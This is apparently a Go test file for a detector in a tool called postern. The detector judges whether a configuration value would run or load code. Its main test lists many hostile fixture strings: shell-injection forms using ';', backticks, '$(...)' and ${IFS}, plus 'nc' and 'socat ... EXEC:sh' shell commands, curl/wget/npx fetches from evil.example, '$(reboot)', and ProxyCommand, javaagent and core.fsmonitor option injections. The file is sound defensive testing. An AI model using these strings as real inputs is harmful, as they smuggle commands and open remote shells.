package steering_test

import (
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/postern-project/postern/cmd/postern/internal/steering"
)

// project makes a folder in which somebody works, with programs, code and data, and a
// folder of programs that is in PATH.
func project(t testing.TB) steering.Place {
	t.Helper()
	dir, bin, home := t.TempDir(), t.TempDir(), t.TempDir()
	write := func(mode os.FileMode, under string, names ...string) {
		for _, name := range names {
			path := filepath.Join(under, name)
			if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
				t.Fatal(err)
			}
			if err := os.WriteFile(path, []byte("x\n"), mode); err != nil {
				t.Fatal(err)
			}
		}
	}
	write(0o755, dir, "evil", "bin/evil", "a b/evil", "bin/tool.json", "e=v,i/evil", "test.sh")
	write(0o644, dir, "evil.js", "lib/evil.so", "lib/libevil.so.1.2", "src/main.py", "app/main.rb", "nested/deep/Evil.pm", "evil.conf", "org/app", "evil.jar", "test/x.js", "main/x.js",
		"data/settings.json", "data/server.pem", "data/x.csv", "x.json", "certs/server.pem", "certs/ca.crt", "schema.sql", "seed.csv", "public/logo.png", "locale/de.po", "templates/a.html", "EVIL.DLL", "links/x")
	write(0o755, home, "bin/evil")
	write(0o644, home, "data/input.csv")
	write(0o755, bin, "sh", "node", "python3", "test", "make", "find", "time", "who", "cut", "sort", "more", "less", "curl", "env", "touch", "git", "cat", "echo", "date", "head", "tail", "yes",
		"kill", "open", "fortune", "[", "id", "x", "rm", "perl", "npx", "ssh", "sudo", "socat", "nc", "reboot", "bash")
	if err := os.Symlink(filepath.Join(dir, "evil"), filepath.Join(dir, "links/link.json")); err != nil {
		t.Fatal(err)
	}
	t.Setenv("HOME", home)
	vars := map[string]string{"HOME": home, "PWD": dir, "OTHER": "bin", "TOOL": filepath.Join(dir, "evil")}
	return steering.Place{Dir: dir, Path: []string{bin}, Getenv: func(name string) string { return vars[name] }}
}

// TestValuesThatRun_TM232: a value that a program would run or load is found, in the ways
// in which programs take commands, options and lists.
func TestValuesThatRun_TM232(t *testing.T) {
	p := project(t)
	for _, value := range []string{
		// the path of a program or of code
		"$D/evil", "./evil", "bin/evil", "./bin/../evil", "~/bin/evil", "$HOME/bin/evil", "${HOME}/bin/evil", "$PWD/evil", "./$OTHER/evil", "$D/a b/evil", "'$D/evil'", `"$D/evil"`, `$D/ev\il`,
		"$D/'evil'", "  $D/evil\n", "$D/evil %s", "$D/evil --now", "$D/evil;", "A=b $D/evil", "$D/evil.js", "lib/evil.so", "$D/lib/libevil.so.1.2", "./EVIL.DLL", "$D/bin/tool.json",
		"$D/links/link.json", "file://$D/evil.js", "file:$D/evil.js", "file://$D/%65vil.js", "src/main.py:app", "$D//evil",
		// signs that programs take before one
		"|$D/evil %s", "| $D/evil", "|| $D/evil", "||$D/evil %s", "|-$D/evil", "!$D/evil", "! $D/evil", "!bin/evil", "|bin/evil", "@$D/evil.js", ":!$D/evil", ":source $D/evil.js", "+$D/evil",
		// commands
		"sh $D/evil.conf", "sh evil.conf", "node evil.js", "python3 -c 'x'", "sh -c 'touch x'", "curl http://127.0.0.1/", "env A=b ./evil", "git -c a=b", "source $D/evil.conf", ". ./evil.conf", "make -f x", "A=b node -e x", "'sh' '-c' 'x'", "touch $(id)",
		"; touch x; true", ";touch x", "& touch x", "&&touch x", "`touch x`", "$(touch x)", "a $(touch x) b", "a `touch x`", `a "$(touch x)"`, `"a $(touch x)"`, "$(shell touch x)", "nonsense; sh -c x", "it's; sh -c x", "; \ntouch x", "a && sh -c x", "echo x > $D/y", "echo x >>~/y",
		"npx evil-package", "bunx evil@1.2", "uvx evil", "pipx evil", "go run evil.example/x@latest", "ssh evil.example", "ssh me@evil.example", "nc evil 4444", "ncat evil.example 1", "socat TCP:evil:4444 EXEC:sh",
		"curl evil.example/x", "wget evil.example", "sudo touch", "sudo touch y", "env A=b touch y", "env ./evil", "eval ./evil", "exec ./evil", "exec sh -c x", "sudo -u root sh -c x", "sudo sh evil.conf", "bash ./evil", "command sh -c x", "find . -exec x", "touch${IFS}-x", "sh$IFS-c$IFS'x'", ".${IFS}./evil.conf", "a|sh -c x", "a;sh -c x",
		"${shell touch x}", "$(shell touch x)", "${file >x,y}", "$(file <x)", "$(if x,${shell touch y})", "$(touch x)y", "(sh -c x)", "$(reboot)", "`reboot`",
		"./ev?l", "./[e]vil", "$D/ev*l x", "~/bin/ev?l", "$D/b?n/evil", "${PWD:-x}/evil", "${UNSET:-$D}/evil", "${UNSET:-.}/evil x", "$TOOL data.txt", "\"$TOOL\" data.txt", "${UNSET-./evil}", "${UNSET:-$D/evil}", "${UNSET:-sh} -c x",
		// options
		"-javaagent:$D/evil.jar", "-javaagent:x.jar", "-Xmx1g -javaagent:x.jar", "x -javaagent:x.jar", "-agentpath:./x", "--require=./evil.js", "--require evil.js", "-r ./evil.js", "-r evil", "--eval=x", "-e 'x'", "--rcfile x", "--init-file=x", "-c 'touch x'", "--import=data:text/javascript,x",
		"--use-compress-program=x", "-I$D/lib", "-I $D/lib", "-L./bin", "--config=evil.conf", "-MEvil::Deep=x", "-mod=mod -toolexec=x", "--foo=$D/evil", "--foo $D/evil.js", "--foo=$D/e=v,i/evil", "-oProxyCommand=x", "-o ProxyCommand=x", "--to-command=x", "-XX:OnError=x", "-Dx=$D/evil.jar",
		// paths within a text
		"core.fsmonitor=$D/evil", "'core.fsmonitor=$D/evil'", "a=b:c=$D/evil", "a,$D/lib/evil.so", "x:$D/lib/evil.so", "{\"command\":\"$D/evil\"}", "[\"$D/evil\"]", "a=bin/evil", "(load \"$D/evil.js\")", "ext::$D/evil", "editor = $D/evil",
		// lists of folders
		"$D/bin:/nonexistent", "/nonexistent:$D/bin", "$D/nested:$D/data", "$D/data:$D/lib", "./bin:", "/nonexistent::/x", "~/bin:/x", "$D/src:$D/data:/x",
	} {
		value := strings.ReplaceAll(value, "$D", p.Dir)
		reason, runs := p.Runs(value)
		if !runs || reason == "" {
			t.Errorf("Runs(%q) = %q, %v, want true", strings.ReplaceAll(value, p.Dir, "$D"), reason, runs)
		}
		if runs && strings.Contains(reason, p.Dir) {
			t.Errorf("Runs(%q) says %q, which has a part of the value", value, reason)
		}
	}
}

// TestHonestValues: no value of the corpus, which people keep, is found.
func TestHonestValues(t *testing.T) {
	p := project(t)
	text, err := os.ReadFile("testdata/values.txt")
	if err != nil {
		t.Fatal(err)
	}
	all := slices.DeleteFunc(strings.Split(strings.TrimSpace(string(text)), "\n"), func(line string) bool { return strings.HasPrefix(line, "# ") })
	if len(all) < 300 || len(slices.Compact(slices.Sorted(slices.Values(all)))) != len(all) {
		t.Errorf("%d values, want 300 and none twice", len(all))
	}
	here, err := os.Getwd()
	if err != nil {
		t.Fatal(err)
	}
	system := steering.Place{Dir: here, Path: filepath.SplitList(os.Getenv("PATH")), Getenv: os.Getenv}
	for _, value := range all {
		value = strings.ReplaceAll(value, `\n`, "\n")
		for _, place := range []steering.Place{p, system} {
			if reason, runs := place.Runs(value); runs {
				t.Errorf("Runs(%q) in %s: it %s", value, place.Dir, reason)
			}
		}
	}
}
